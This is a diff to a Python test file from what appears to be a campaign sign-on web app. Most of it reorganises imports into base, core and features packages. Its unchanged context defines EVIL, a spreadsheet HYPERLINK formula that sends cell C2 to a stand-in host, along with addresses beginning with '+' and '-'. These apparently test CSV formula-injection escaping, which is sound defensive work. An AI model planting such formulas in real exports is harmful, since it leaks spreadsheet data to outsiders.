@@ -11,18 +11,18 @@ import zipfile
 
 import pytest
 
-from campaign.accounts.models import Role
-from campaign.consent.models import ConsentWording
-from campaign.csvfile import ADDRESS_COLUMNS, FORMULA_STARTS
-from campaign.deliveries.models import Delivery
-from campaign.extensions import db
-from campaign.letters.models import IndividualSignOn
-from campaign.organizations.models import Decision, OrganizationSignOn
-from campaign.partners import tokens as partner_tokens
-from campaign.partners.models import SignaturePartnerConsent
-from campaign.targets.models import Target, TargetKind
-from campaign.targets.operations import add_contact
-from campaign.timeutil import utcnow
+from campaign.base.csvfile import ADDRESS_COLUMNS, FORMULA_STARTS
+from campaign.base.extensions import db
+from campaign.base.timeutil import utcnow
+from campaign.core.accounts.models import Role
+from campaign.core.consent.models import ConsentWording
+from campaign.core.letters.models import IndividualSignOn
+from campaign.core.organizations.models import Decision, OrganizationSignOn
+from campaign.core.targets.models import Target, TargetKind
+from campaign.core.targets.operations import add_contact
+from campaign.features.deliveries.models import Delivery
+from campaign.features.partners import tokens as partner_tokens
+from campaign.features.partners.models import SignaturePartnerConsent
 
 EVIL = '=HYPERLINK("http://evil.example/?"&C2,"x")'
 ADDRESSES = {"+eve@example.org", "+rosa@privacynow.example", "-sam@example.org"}
